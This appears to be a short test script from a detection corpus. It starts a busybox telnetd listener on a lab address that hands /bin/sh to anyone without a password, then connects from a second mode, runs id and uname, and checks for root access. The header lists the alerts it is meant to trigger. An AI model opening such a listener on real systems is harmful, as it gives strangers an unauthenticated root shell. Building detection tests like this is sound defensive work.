#!/bin/bash
# SPDX-License-Identifier: Apache-2.0
# corpus: expect=new-listener,reverse-shell half=report tool=busybox,dash far=out seconds=24 parts=dns
# busybox telnetd gives a shell without a password to whoever comes to its port; somebody outside comes.
if [ "$1" = out ]; then sleep 5; (sleep 1; for line in id "ls /" "uname -a" exit; do echo "$line"; sleep 2; done) | timeout 14 telnet 10.30.0.2 2323 >"$LAB/heard" 2>/dev/null; exit 0; fi
timeout 20 busybox telnetd -F -p 2323 -b 10.30.0.2 -l /bin/sh; grep -q uid=0 "$LAB/heard"
